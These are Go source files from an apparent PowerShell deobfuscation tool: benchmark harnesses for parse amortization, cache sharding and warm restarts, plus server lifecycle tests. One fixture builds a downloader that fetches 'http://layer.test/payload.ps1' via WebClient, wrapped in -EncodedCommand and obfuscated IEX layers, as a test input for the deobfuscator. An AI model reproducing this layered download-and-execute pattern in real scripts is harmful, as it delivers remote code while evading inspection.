// allocation reporting and converts the result.
func run(benchtime time.Duration, body func(b *testing.B)) benchMetrics {
	old := flag.Lookup("test.benchtime")
	if old != nil {
		old.Value.Set(benchtime.String())
	}
	r := testing.Benchmark(func(b *testing.B) {
		b.ReportAllocs()
		body(b)
	})
	return benchMetrics{
		NsPerOp:     r.NsPerOp(),
		AllocsPerOp: r.AllocsPerOp(),
		BytesPerOp:  r.AllocedBytesPerOp(),
	}
}

func corpusInputs(seed int64, n, copies int) []invokedeob.BatchInput {
	samples := invokedeob.GenerateCorpus(seed, n)
	var inputs []invokedeob.BatchInput
	for c := 0; c < copies; c++ {
		for _, s := range samples {
			inputs = append(inputs, invokedeob.BatchInput{
				Name:   fmt.Sprintf("%s#%d", s.ID, c),
				Script: s.Source,
			})
		}
	}
	return inputs
}

func batchBody(inputs []invokedeob.BatchInput, opts *invokedeob.Options) func(b *testing.B) {
	return func(b *testing.B) {
		for i := 0; i < b.N; i++ {
			results := invokedeob.DeobfuscateBatch(context.Background(), inputs, opts)
			for _, r := range results {
				if r.Err != nil {
					b.Fatalf("%s: %v", r.Name, r.Err)
				}
			}
		}
	}
}

// batchEvalStats runs one batch and aggregates the per-script
// evaluation-cache counters.
func batchEvalStats(inputs []invokedeob.BatchInput, opts *invokedeob.Options) *evalCacheMetrics {
	agg := invokedeob.Stats{}
	for _, r := range invokedeob.DeobfuscateBatch(context.Background(), inputs, opts) {
		if r.Result == nil {
			continue
		}
		agg.EvalCacheHits += r.Result.Stats.EvalCacheHits
		agg.EvalCacheMisses += r.Result.Stats.EvalCacheMisses
		agg.EvalCacheSkips += r.Result.Stats.EvalCacheSkips
	}
	return evalStats(agg)
}

func evalStats(s invokedeob.Stats) *evalCacheMetrics {
	m := &evalCacheMetrics{
		Hits:   s.EvalCacheHits,
		Misses: s.EvalCacheMisses,
		Skips:  s.EvalCacheSkips,
	}
	if lookups := m.Hits + m.Misses; lookups > 0 {
		m.HitRate = float64(m.Hits) / float64(lookups)
	}
	return m
}
