package main

// The -pieces mode measures the batched-splice + parallel-piece
// recovery fixpoint and writes BENCH_pr9.json:
//
//   - parse_amortization: full psparser.Parse invocations per
//     default-options run over the fixed 3-layer guard script
//     (acceptance: <= 8, the same ceiling the psfront guard test
//     enforces).
//   - splice: splices applied vs full-reparse fallbacks across the
//     deterministic 24-sample corpus (acceptance: fallback rate < 0.2)
//     plus the pieces the worker pool evaluated off the walk
//     goroutine.
//   - single_core / multi_core: the engine's ns per pass over the
//     fixpoint-heavy pieces workload against the frozen PR 8 numbers,
//     at GOMAXPROCS=1 and at 4 simulated cores with PieceWorkers=4
//     (acceptance: multi-core speedup >= 1.2).

import (
	"encoding/base64"
	"fmt"
	"runtime"
	"strings"
	"time"

	invokedeob "github.com/invoke-deobfuscation/invokedeob"
	"github.com/invoke-deobfuscation/invokedeob/internal/psparser"
)

type parseAmortizationMetrics struct {
	ParsesPerRun int64 `json:"parses_per_run"`
	Budget       int64 `json:"budget"`
	// PR8 and PreRefactor are the measured counts of the tip-of-PR-8
	// and the seed engine on the same script, kept for the
	// amortization narrative (55 -> 16 -> 8).
	PR8         int64 `json:"pr8_parses_per_run"`
	PreRefactor int64 `json:"pre_refactor_parses_per_run"`
}

type spliceMetrics struct {
	CorpusSize      int     `json:"corpus_size"`
	SplicesApplied  int     `json:"splices_applied"`
	SpliceFallbacks int     `json:"splice_fallbacks"`
	FallbackRate    float64 `json:"fallback_rate"`
	PiecesParallel  int     `json:"pieces_parallel"`
	PiecesRecovered int     `json:"pieces_recovered"`
}

type workloadMetrics struct {
	Docs int `json:"docs"`
	// PiecesParallel counts evaluations run on the worker pool off the
	// walk goroutine with PieceWorkers=4; recovery totals and splice
	// decisions are identical at any worker count.
	PiecesParallel  int `json:"pieces_parallel"`
	PiecesRecovered int `json:"pieces_recovered"`
	SplicesApplied  int `json:"splices_applied"`
	SpliceFallbacks int `json:"splice_fallbacks"`
}

type coreComparison struct {
	Cores        int `json:"cores"`
	PieceWorkers int `json:"piece_workers"`
	// DefaultNsPerOp is the measured best-of-N ns for one pass of the
	// pieces workload; BaselineNsPerOp is the frozen PR 8 figure for
	// the identical pass on the same machine class.
	DefaultNsPerOp  int64 `json:"default_ns_per_op"`
	BaselineNsPerOp int64 `json:"baseline_ns_per_op"`
	// Speedup is baseline ns divided by measured ns: how much batched
	// splicing, restricted bindings and the piece pool buy over the
	// PR 8 sequential full-reparse fixpoint.
	Speedup float64 `json:"speedup"`
}

type piecesReport struct {
	Generated         string                   `json:"generated"`
	GoVersion         string                   `json:"go_version"`
	GOOS              string                   `json:"goos"`
	GOARCH            string                   `json:"goarch"`
	NumCPU            int                      `json:"num_cpu"`
	BaselineCommit    string                   `json:"baseline_commit"`
	ParseAmortization parseAmortizationMetrics `json:"parse_amortization"`
	Splice            spliceMetrics            `json:"splice"`
	Workload          workloadMetrics          `json:"pieces_workload"`
	SingleCore        coreComparison           `json:"single_core"`
	MultiCore         coreComparison           `json:"multi_core"`
}

// pr8PiecesBaseline freezes the tip-of-PR-8 numbers (commit 9ad87a1,
// "Shard the parse/eval caches with request coalescing and warm-restart
// snapshots") for one pass of the pieces workload, measured with the
// same warm-up + best-of-pass loop timePiecesWorkload runs, on the same
// class of machine. PR 8 has no piece pool, so both figures are its
// sequential engine; the multi-core figure is slower than single-core
// because simulating extra cores on a small builder adds GC and
// runtime-lock churn that the sequential fixpoint cannot absorb.
var pr8PiecesBaseline = struct {
	commit       string
	singleCoreNs int64
	multiCoreNs  int64
}{
	commit:       "9ad87a1",
	singleCoreNs: 69672730,
	multiCoreNs:  97150158,
}

// piecesGuardScript mirrors the psfront parse-count guard fixture: a
// downloader wrapped in powershell -EncodedCommand, wrapped in a
// string-concat IEX, wrapped in another -EncodedCommand.
func piecesGuardScript() string {
	enc := func(s string) string {
		buf := make([]byte, 0, len(s)*2)
		for _, r := range s {
			if r > 0xFFFF {
				r = '?'
			}
			buf = append(buf, byte(r), byte(r>>8))
		}
		return base64.StdEncoding.EncodeToString(buf)
	}
	inner := "$u = 'http://layer.test/payload.ps1'\n" +
		"(New-Object Net.WebClient).DownloadString($u)\n"
	layer2 := "powershell -EncodedCommand " + enc(inner)
	layer1 := "I`eX ('" + strings.ReplaceAll(layer2, "'", "''") + "')"
	return "powershell -enc " + enc(layer1) + "\n"
}

// piecesWorkload builds the fixpoint-heavy measurement scripts: four
// documents of 400 literal pad assignments (so splicing a recovered
// piece is much cheaper than reparsing the document) plus 12
// independent concat pieces each, the shape the batched-splice and
// parallel-piece machinery is built for. Deterministic, no network, no
// obfuscation randomness.
func piecesWorkload() []string {
	const (
		docs   = 4
		pads   = 400
		pieces = 12
	)
	letters := "abcdefghijklmnop"
	lit := func(seed, i, n int) string {
		var s strings.Builder
		for k := 0; k < n; k++ {
			s.WriteByte(letters[(seed+i*7+k)%len(letters)])
		}
		return s.String()
	}
	out := make([]string, docs)
	for seed := 0; seed < docs; seed++ {
		var b strings.Builder
		for i := 0; i < pads; i++ {
			fmt.Fprintf(&b, "$pad%d = '%s'\n", i, lit(seed, i, 120))
		}
		for i := 0; i < pieces; i++ {
			fmt.Fprintf(&b, "$v%d = '%s' + '%s' + '%s'\n", i,
				lit(seed, i, 6), lit(seed, i+1, 5), lit(seed, i+2, 7))
		}
		// Command-argument concats are captured as deferred piece jobs
		// (assignment RHS pieces are traced inline), so this block is
		// what the worker pool actually evaluates in rounds.
		for i := 0; i < pieces; i++ {
			fmt.Fprintf(&b, "Write-Output ('%s' + '%s')\n",
				lit(seed, i+3, 6), lit(seed, i+4, 5))
		}
		out[seed] = b.String()
	}
	return out
}

func measurePieces(benchtime time.Duration) (*piecesReport, error) {
	rep := &piecesReport{
		Generated:      time.Now().UTC().Format(time.RFC3339),
		GoVersion:      runtime.Version(),
		GOOS:           runtime.GOOS,
		GOARCH:         runtime.GOARCH,
		NumCPU:         runtime.NumCPU(),
		BaselineCommit: pr8PiecesBaseline.commit,
	}

	// Parse amortization on the 3-layer guard script: warm-up run, then
	// one measured run.
	guard := piecesGuardScript()
	if _, err := invokedeob.Deobfuscate(guard, nil); err != nil {
		return nil, fmt.Errorf("guard warm-up: %w", err)
	}
	before := psparser.ParseCalls()
	if _, err := invokedeob.Deobfuscate(guard, nil); err != nil {
		return nil, fmt.Errorf("guard run: %w", err)
	}
	rep.ParseAmortization = parseAmortizationMetrics{
		ParsesPerRun: psparser.ParseCalls() - before,
		Budget:       8,
		PR8:          16,
		PreRefactor:  55,
	}

	// Splice vs fallback across the deterministic corpus, with the
	// piece-pool counters. PieceWorkers is pinned to 4 so the sweep
	// exercises the pool even on single-CPU builders (where the
	// GOMAXPROCS default would resolve to one worker); outputs and
	// splice decisions are worker-count-independent.
	samples := invokedeob.GenerateCorpus(20220627, 24)
	sm := spliceMetrics{CorpusSize: len(samples)}
	for _, s := range samples {
		res, err := invokedeob.Deobfuscate(s.Source, &invokedeob.Options{PieceWorkers: 4})
		if err != nil {
			return nil, fmt.Errorf("corpus %s: %w", s.ID, err)
		}
		sm.SplicesApplied += res.Stats.SplicesApplied
		sm.SpliceFallbacks += res.Stats.SpliceFallbacks
		sm.PiecesParallel += res.Stats.PiecesParallel
		sm.PiecesRecovered += res.Stats.PiecesRecovered
	}
	if total := sm.SplicesApplied + sm.SpliceFallbacks; total > 0 {
		sm.FallbackRate = float64(sm.SpliceFallbacks) / float64(total)
	}
	rep.Splice = sm

	// Current engine vs the frozen PR 8 figures on the pieces workload,
	// at 1 and at >=4 simulated cores (same GOMAXPROCS simulation the
	// -contended mode uses, so small builders still exercise the pool).
	multi := runtime.NumCPU()
	if multi < minSimulatedCores {
		multi = minSimulatedCores
	}
	workload := piecesWorkload()
	wm := workloadMetrics{Docs: len(workload)}
	for _, src := range workload {
		res, err := invokedeob.Deobfuscate(src, &invokedeob.Options{Lang: "powershell", PieceWorkers: 4})
		if err != nil {
			return nil, fmt.Errorf("pieces workload stats: %w", err)
		}
		wm.PiecesParallel += res.Stats.PiecesParallel
		wm.PiecesRecovered += res.Stats.PiecesRecovered
		wm.SplicesApplied += res.Stats.SplicesApplied
		wm.SpliceFallbacks += res.Stats.SpliceFallbacks
	}
	rep.Workload = wm
	single, err := timePiecesWorkload(benchtime, workload, 1, 1)
	if err != nil {
		return nil, err
	}
	rep.SingleCore = coreComparison{
		Cores:           1,
		PieceWorkers:    1,
		DefaultNsPerOp:  single,
		BaselineNsPerOp: pr8PiecesBaseline.singleCoreNs,
		Speedup:         float64(pr8PiecesBaseline.singleCoreNs) / float64(single),
	}
	parallel, err := timePiecesWorkload(benchtime, workload, multi, 4)
	if err != nil {
		return nil, err
	}
	rep.MultiCore = coreComparison{
		Cores:           multi,
		PieceWorkers:    4,
		DefaultNsPerOp:  parallel,
		BaselineNsPerOp: pr8PiecesBaseline.multiCoreNs,
		Speedup:         float64(pr8PiecesBaseline.multiCoreNs) / float64(parallel),
	}
	return rep, nil
}

// timePiecesWorkload measures one pass of the workload (every script
// once) at a pinned GOMAXPROCS and piece-worker count: a warm-up pass,
// then best-of-N timed passes with N scaled to the benchtime budget.
// Best-of matches how the frozen PR 8 constants were taken and is the
// stable statistic on noisy shared builders.
func timePiecesWorkload(benchtime time.Duration, workload []string, cores, workers int) (int64, error) {
	prev := runtime.GOMAXPROCS(cores)
	defer runtime.GOMAXPROCS(prev)

	// The language is pinned so auto-detection (a constant that is
	// identical in the PR 8 engine) stays out of the measurement.
	opts := &invokedeob.Options{Lang: "powershell", PieceWorkers: workers}
	pass := func() (time.Duration, error) {
		start := time.Now()
		for _, src := range workload {
			if _, err := invokedeob.Deobfuscate(src, opts); err != nil {
				return 0, err
			}
		}
		return time.Since(start), nil
	}
	warm, err := pass()
	if err != nil {
		return 0, fmt.Errorf("pieces workload warm-up: %w", err)
	}
	reps := int(benchtime / (warm + 1))
	if reps < 5 {
		reps = 5
	} else if reps > 40 {
		reps = 40
	}
	best := warm
	for i := 0; i < reps; i++ {
		el, err := pass()
		if err != nil {
			return 0, fmt.Errorf("pieces workload pass: %w", err)
		}
		if el < best {
			best = el
		}
	}
	return best.Nanoseconds(), nil
}
