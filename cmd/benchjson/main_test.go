package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// TestWriteCorpus pins the profiling corpus emit path: 24 numbered,
// non-empty .ps1 files in the target directory.
func TestWriteCorpus(t *testing.T) {
	dir := t.TempDir()
	if err := writeCorpus(dir); err != nil {
		t.Fatalf("writeCorpus: %v", err)
	}
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	if len(entries) != 24 {
		t.Fatalf("wrote %d files, want 24", len(entries))
	}
	for _, e := range entries {
		if filepath.Ext(e.Name()) != ".ps1" {
			t.Errorf("unexpected file %q, want .ps1", e.Name())
		}
		b, err := os.ReadFile(filepath.Join(dir, e.Name()))
		if err != nil {
			t.Fatal(err)
		}
		if len(strings.TrimSpace(string(b))) == 0 {
			t.Errorf("%s is empty", e.Name())
		}
	}
	// Determinism: a second emit produces the same file set and bytes.
	dir2 := t.TempDir()
	if err := writeCorpus(dir2); err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		a, _ := os.ReadFile(filepath.Join(dir, e.Name()))
		b, err := os.ReadFile(filepath.Join(dir2, e.Name()))
		if err != nil {
			t.Fatalf("second emit missing %s: %v", e.Name(), err)
		}
		if string(a) != string(b) {
			t.Errorf("%s not deterministic across emits", e.Name())
		}
	}
}

// TestMeasureSmoke runs the full measurement pipeline at a tiny
// benchtime and validates the report shape: every benchmark present
// with sane counters, and the whole thing JSON-marshalable (the file
// the real invocation writes).
func TestMeasureSmoke(t *testing.T) {
	if testing.Short() {
		t.Skip("measure runs real engine benchmarks")
	}
	rep, err := measure(time.Millisecond)
	if err != nil {
		t.Fatalf("measure: %v", err)
	}
	for _, name := range []string{"deobfuscate", "batch_jobs4", "batch_duplicated_cache_on", "batch_duplicated_cache_off"} {
		m, ok := rep.Bench[name]
		if !ok {
			t.Errorf("report missing benchmark %q", name)
			continue
		}
		if m.NsPerOp <= 0 {
			t.Errorf("%s: ns_per_op = %d, want > 0", name, m.NsPerOp)
		}
		if m.AllocsPerOp <= 0 {
			t.Errorf("%s: allocs_per_op = %d, want > 0", name, m.AllocsPerOp)
		}
	}
	if rep.Bench["deobfuscate"].ParsesPerOp <= 0 {
		t.Errorf("parses_per_run = %d, want > 0", rep.Bench["deobfuscate"].ParsesPerOp)
	}
	if rep.Bench["deobfuscate"].EvalCache == nil {
		t.Error("single-script eval cache stats missing")
	}
	if rep.BaselinePR2.AllocsPerOp <= 0 {
		t.Error("frozen PR2 baseline missing from report")
	}
	b, err := json.Marshal(rep)
	if err != nil {
		t.Fatalf("report not marshalable: %v", err)
	}
	var back report
	if err := json.Unmarshal(b, &back); err != nil {
		t.Fatalf("report not round-trippable: %v", err)
	}
	if back.GoVersion == "" || back.Generated == "" {
		t.Error("provenance fields empty after round trip")
	}
}
