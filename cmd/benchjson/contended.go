package main

// The -contended mode measures the sharded, coalescing, warm-restart
// cache tier under many-goroutine pressure and writes BENCH_pr8.json:
//
//   - parse_contended: a hot read-mostly working set hammered through
//     the parse cache by 4×GOMAXPROCS goroutines, single-mutex shard
//     count 1 vs the default sharded layout. GOMAXPROCS is forced to
//     at least 4 so the comparison simulates a multi-core server even
//     on a small builder.
//   - duplicate_wave: a wave of goroutines all evaluating the same
//     small set of distinct scripts through EvalView.Acquire, counting
//     real evaluations (acceptance: at most one per distinct script)
//     and coalesced waits.
//   - warm_restart: a full in-process server kill/restart cycle with
//     -cache-snapshot semantics — serve, drain (snapshot saved),
//     restart (snapshot loaded), serve the same traffic again — and
//     the warm-hit counters of the first post-restart run.

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"runtime"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	invokedeob "github.com/invoke-deobfuscation/invokedeob"
	"github.com/invoke-deobfuscation/invokedeob/internal/pipeline"
	"github.com/invoke-deobfuscation/invokedeob/internal/server"
)

// minSimulatedCores is the GOMAXPROCS floor for the contended run: the
// acceptance criterion is "beats the single-mutex baseline at >=4
// simulated cores", so small builders are raised to 4.
const minSimulatedCores = 4

type parseContendedMetrics struct {
	WorkingSet         int   `json:"working_set"`
	Goroutines         int   `json:"goroutines"`
	SingleMutexNsPerOp int64 `json:"single_mutex_ns_per_op"`
	ShardedNsPerOp     int64 `json:"sharded_ns_per_op"`
	Shards             int   `json:"shards"`
	// Speedup is single-mutex ns/op divided by sharded ns/op
	// (acceptance: > 1 at >=4 simulated cores).
	Speedup float64 `json:"speedup"`
}

type duplicateWaveMetrics struct {
	Goroutines      int   `json:"goroutines"`
	DistinctScripts int   `json:"distinct_scripts"`
	Evaluations     int64 `json:"evaluations"`
	// EvaluationsPerDistinct is Evaluations / DistinctScripts
	// (acceptance: <= 1 — every duplicate either hits or coalesces).
	EvaluationsPerDistinct float64 `json:"evaluations_per_distinct"`
	CoalescedWaits         int64   `json:"coalesced_waits"`
	Hits                   int64   `json:"hits"`
}

type warmRestartMetrics struct {
	Scripts            int `json:"scripts"`
	SavedParseEntries  int `json:"saved_parse_entries"`
	SavedEvalEntries   int `json:"saved_eval_entries"`
	LoadedParseEntries int `json:"loaded_parse_entries"`
	LoadedEvalEntries  int `json:"loaded_eval_entries"`
	// FirstRunWarmHits counts parse-cache hits served by
	// snapshot-preloaded artifacts during the first post-restart run
	// (acceptance: nonzero).
	FirstRunWarmHits int64 `json:"first_run_warm_hits"`
	EvalWarmHits     int64 `json:"eval_warm_hits"`
}

type contendedReport struct {
	Generated      string                `json:"generated"`
	GoVersion      string                `json:"go_version"`
	GOOS           string                `json:"goos"`
	GOARCH         string                `json:"goarch"`
	NumCPU         int                   `json:"num_cpu"`
	SimulatedCores int                   `json:"simulated_cores"`
	ParseContended parseContendedMetrics `json:"parse_contended"`
	DuplicateWave  duplicateWaveMetrics  `json:"duplicate_wave"`
	WarmRestart    warmRestartMetrics    `json:"warm_restart"`
}

// benchLang is a deliberately cheap pipeline.Lang: with tokenize/parse
// nearly free and the working set pre-warmed, the benchmark measures
// lock traffic, not parser throughput.
type benchLang struct{}

func (benchLang) Name() string                     { return "benchlang" }
func (benchLang) Tokenize(src string) (any, error) { return len(src), nil }
func (benchLang) Parse(src string) (any, error)    { return len(src) * 2, nil }

// benchEvalOps is the matching trivial EvalOps for the duplicate-wave
// workload.
type benchEvalOps struct{}

func (benchEvalOps) Name() string { return "benchlang" }
func (benchEvalOps) CopyValue(v any) (any, bool) {
	switch v.(type) {
	case nil, bool, int, int64, float64, string:
		return v, true
	}
	return nil, false
}
func (benchEvalOps) ValueSize(v any) int {
	if s, ok := v.(string); ok {
		return len(s) + 16
	}
	return 16
}

func measureContended(benchtime time.Duration) (*contendedReport, error) {
	rep := &contendedReport{
		Generated: time.Now().UTC().Format(time.RFC3339),
		GoVersion: runtime.Version(),
		GOOS:      runtime.GOOS,
		GOARCH:    runtime.GOARCH,
		NumCPU:    runtime.NumCPU(),
	}
	// Simulate a multi-core server: the shard count and the benchmark's
	// parallelism both derive from GOMAXPROCS, so raising it exercises
	// the contention the tier is built for even on a 1-CPU builder.
	sim := runtime.NumCPU()
	if sim < minSimulatedCores {
		sim = minSimulatedCores
	}
	prev := runtime.GOMAXPROCS(sim)
	defer runtime.GOMAXPROCS(prev)
	rep.SimulatedCores = sim

	rep.ParseContended = measureParseContended(benchtime, sim)
	rep.DuplicateWave = measureDuplicateWave()
	wr, err := measureWarmRestart()
	if err != nil {
		return nil, err
	}
	rep.WarmRestart = wr
	return rep, nil
}

// measureParseContended compares a single-mutex cache against the
// default sharded layout on a pre-warmed hot working set.
func measureParseContended(benchtime time.Duration, sim int) parseContendedMetrics {
	const workingSet = 256
	texts := make([]string, workingSet)
	for i := range texts {
		texts[i] = fmt.Sprintf("Write-Output 'hot working set item %04d'", i)
	}
	lang := benchLang{}

	body := func(c *pipeline.Cache) func(b *testing.B) {
		return func(b *testing.B) {
			for _, t := range texts {
				c.Parse(lang, t)
				c.Tokenize(lang, t)
			}
			b.ResetTimer()
			var worker atomic.Int64
			// 4 goroutines per simulated core: enough over-subscription
			// that a contended global mutex queues, without drowning the
			// scheduler.
			b.SetParallelism(4)
			b.RunParallel(func(pb *testing.PB) {
				// Stride differently per goroutine so the shard access
				// pattern is uncorrelated.
				id := int(worker.Add(1))
				i := id * 17
				for pb.Next() {
					if _, err := c.Parse(lang, texts[i%workingSet]); err != nil {
						b.Fatal(err)
					}
					i += 2*id + 1
				}
			})
		}
	}

	single := pipeline.NewCacheSharded(0, 0, 1)
	sharded := pipeline.NewCacheSharded(0, 0, 0)
	m := parseContendedMetrics{
		WorkingSet: workingSet,
		Goroutines: 4 * sim,
		Shards:     sharded.ShardCount(),
	}
	m.SingleMutexNsPerOp = run(benchtime, body(single)).NsPerOp
	m.ShardedNsPerOp = run(benchtime, body(sharded)).NsPerOp
	if m.ShardedNsPerOp > 0 {
		m.Speedup = float64(m.SingleMutexNsPerOp) / float64(m.ShardedNsPerOp)
	}
	return m
}

// measureDuplicateWave fires a wave of goroutines at a small distinct
// script set through Acquire and counts how many evaluations actually
// ran. The simulated evaluation sleeps long enough that, without
// coalescing, most of the wave would be in flight simultaneously and
// evaluate duplicates.
func measureDuplicateWave() duplicateWaveMetrics {
	const (
		goroutines = 64
		distinct   = 8
		evalDelay  = 2 * time.Millisecond
	)
	snippets := make([]string, distinct)
	for i := range snippets {
		snippets[i] = fmt.Sprintf("[char]104+'duplicate wave script %02d'", i)
	}
	cache := pipeline.NewEvalCache(0, 0)
	ops := benchEvalOps{}
	noVars := func(string) (string, bool) { return "", false }
	var evaluations atomic.Int64
	var wg sync.WaitGroup
	start := make(chan struct{})
	for g := 0; g < goroutines; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			view := cache.View(ops)
			<-start
			for _, snippet := range snippets {
				_, hit, ticket := view.Acquire(context.Background(), snippet, noVars)
				if hit {
					continue
				}
				evaluations.Add(1)
				time.Sleep(evalDelay) // the simulated interpreter run
				ticket.Insert(nil, []any{snippet})
			}
		}()
	}
	close(start)
	wg.Wait()
	st := cache.Stats()
	m := duplicateWaveMetrics{
		Goroutines:      goroutines,
		DistinctScripts: distinct,
		Evaluations:     evaluations.Load(),
		CoalescedWaits:  st.CoalescedWaits,
		Hits:            st.Hits,
	}
	m.EvaluationsPerDistinct = float64(m.Evaluations) / float64(distinct)
	return m
}

// measureWarmRestart runs the full kill/restart cycle in process:
// serve a corpus, drain (which persists the snapshot), build a fresh
// server on the same snapshot path (which loads it), re-serve the
// corpus once, and report the warm-hit counters of that first
// post-restart run.
func measureWarmRestart() (warmRestartMetrics, error) {
	var m warmRestartMetrics
	dir, err := os.MkdirTemp("", "benchjson-snapshot-*")
	if err != nil {
		return m, err
	}
	defer os.RemoveAll(dir)
	snapPath := filepath.Join(dir, "cache.snapshot")

	samples := invokedeob.GenerateCorpus(20220627, 12)
	m.Scripts = len(samples)
	cfg := server.Config{SnapshotPath: snapPath, SnapshotInterval: -1}

	serve := func(srv *server.Server) error {
		h := srv.Handler()
		for _, s := range samples {
			body, _ := json.Marshal(map[string]string{"script": s.Source, "lang": "powershell"})
			req := httptest.NewRequest(http.MethodPost, "/v1/deobfuscate", bytes.NewReader(body))
			rec := httptest.NewRecorder()
			h.ServeHTTP(rec, req)
			if rec.Code != http.StatusOK {
				return fmt.Errorf("warm_restart: %s: status %d: %s", s.ID, rec.Code, rec.Body.String())
			}
		}
		return nil
	}
	statsz := func(srv *server.Server) (map[string]any, error) {
		req := httptest.NewRequest(http.MethodGet, "/statsz", nil)
		rec := httptest.NewRecorder()
		srv.Handler().ServeHTTP(rec, req)
		var body map[string]any
		if err := json.Unmarshal(rec.Body.Bytes(), &body); err != nil {
			return nil, err
		}
		return body, nil
	}
	cacheInt := func(body map[string]any, cache, field string) int64 {
		c, _ := body[cache].(map[string]any)
		v, _ := c[field].(float64)
		return int64(v)
	}

	// First life: serve the corpus, then drain — the graceful-shutdown
	// path that persists the snapshot.
	first := server.New(cfg)
	if err := serve(first); err != nil {
		return m, err
	}
	drainCtx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	if err := first.Drain(drainCtx); err != nil {
		return m, err
	}
	firstStats, err := statsz(first)
	if err != nil {
		return m, err
	}
	if snap, ok := firstStats["snapshot"].(map[string]any); ok {
		m.SavedParseEntries = int(jsonNum(snap["last_save_parse_entries"]))
		m.SavedEvalEntries = int(jsonNum(snap["last_save_eval_entries"]))
	}

	// Second life: a fresh server on the same snapshot path loads and
	// re-derives the warm set, then the same traffic runs once.
	second := server.New(cfg)
	secondBoot, err := statsz(second)
	if err != nil {
		return m, err
	}
	if snap, ok := secondBoot["snapshot"].(map[string]any); ok {
		m.LoadedParseEntries = int(jsonNum(snap["load_parse_warmed"]))
		m.LoadedEvalEntries = int(jsonNum(snap["load_eval_warmed"]))
	}
	if err := serve(second); err != nil {
		return m, err
	}
	secondStats, err := statsz(second)
	if err != nil {
		return m, err
	}
	m.FirstRunWarmHits = cacheInt(secondStats, "parse_cache", "warm_hits")
	m.EvalWarmHits = cacheInt(secondStats, "eval_cache", "warm_hits")
	drain2Ctx, cancel2 := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel2()
	_ = second.Drain(drain2Ctx)
	return m, nil
}

func jsonNum(v any) float64 {
	f, _ := v.(float64)
	return f
}
