package main

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"
)

// syncBuffer is a goroutine-safe writer the server goroutine can log to
// while the test reads.
type syncBuffer struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (b *syncBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.Write(p)
}

func (b *syncBuffer) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.String()
}

// TestRunLifecycle drives the full binary lifecycle in-process: bind an
// ephemeral port, round-trip a deobfuscation over real HTTP, then
// cancel the context (the signal path) and verify a clean drain.
func TestRunLifecycle(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()

	pr, pw := io.Pipe()
	var stdout syncBuffer
	var stderr syncBuffer
	runErr := make(chan error, 1)
	go func() {
		// Tee stdout through a pipe so the test can wait for the listen
		// line without polling.
		runErr <- run(ctx, []string{"-addr", "127.0.0.1:0", "-drain-timeout", "5s"},
			io.MultiWriter(pw, &stdout), &stderr)
		pw.Close()
	}()

	sc := bufio.NewScanner(pr)
	if !sc.Scan() {
		t.Fatalf("no listen line; run returned: %v (stderr: %s)", <-runErr, stderr.String())
	}
	line := sc.Text()
	const prefix = "deobserver listening on "
	if !strings.HasPrefix(line, prefix) {
		t.Fatalf("first stdout line = %q, want %q prefix", line, prefix)
	}
	addr := strings.TrimPrefix(line, prefix)
	go io.Copy(io.Discard, pr) // keep draining so later prints don't block

	base := "http://" + addr

	// Health first.
	resp, err := http.Get(base + "/healthz")
	if err != nil {
		t.Fatalf("healthz: %v", err)
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("healthz = %d, want 200", resp.StatusCode)
	}

	// One real deobfuscation round trip.
	body := `{"script":"IEX (\"Wri{0}e-Ho{1}t 'lifecycle'\" -f 't','s')"}`
	resp, err = http.Post(base+"/v1/deobfuscate", "application/json", strings.NewReader(body))
	if err != nil {
		t.Fatalf("deobfuscate: %v", err)
	}
	raw, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("deobfuscate = %d, body %s", resp.StatusCode, raw)
	}
	var res struct {
		Script string `json:"script"`
	}
	if err := json.Unmarshal(raw, &res); err != nil {
		t.Fatalf("bad response %q: %v", raw, err)
	}
	if !strings.Contains(res.Script, "Write-Host") {
		t.Errorf("recovered script %q does not contain the deobfuscated command", res.Script)
	}

	// Signal shutdown; run must drain and return nil.
	cancel()
	select {
	case err := <-runErr:
		if err != nil {
			t.Fatalf("run returned %v on graceful shutdown, want nil (stderr: %s)", err, stderr.String())
		}
	case <-time.After(10 * time.Second):
		t.Fatal("run did not return within 10s of cancellation")
	}
	out := stdout.String()
	for _, want := range []string{"deobserver draining", "deobserver stopped"} {
		if !strings.Contains(out, want) {
			t.Errorf("stdout missing %q:\n%s", want, out)
		}
	}
}

// TestRunFlagErrors: bad flags and a busy port surface as errors from
// run, not process exits.
func TestRunFlagErrors(t *testing.T) {
	var out, errBuf bytes.Buffer
	if err := run(context.Background(), []string{"-no-such-flag"}, &out, &errBuf); err == nil {
		t.Error("unknown flag did not error")
	}
	if err := run(context.Background(), []string{"-addr", "256.0.0.1:bogus"}, &out, &errBuf); err == nil {
		t.Error("unlistenable address did not error")
	}
}

// TestRunPoolFlags pins the flag translation through the observable
// /statsz pool shape: -queue 0 must disable queueing (queue_depth 0)
// rather than fall back to the config default of 64, and -workers must
// land as-is. (The saturation *behavior* of a zero-depth queue is
// covered deterministically in internal/server with fake engines; here
// we only need to know the flags reached the config.)
func TestRunPoolFlags(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	pr, pw := io.Pipe()
	runErr := make(chan error, 1)
	var stderr bytes.Buffer
	go func() {
		runErr <- run(ctx, []string{"-addr", "127.0.0.1:0", "-workers", "3", "-queue", "0"}, pw, &stderr)
		pw.Close()
	}()
	sc := bufio.NewScanner(pr)
	if !sc.Scan() {
		t.Fatalf("no listen line; run returned: %v", <-runErr)
	}
	addr := strings.TrimPrefix(sc.Text(), "deobserver listening on ")
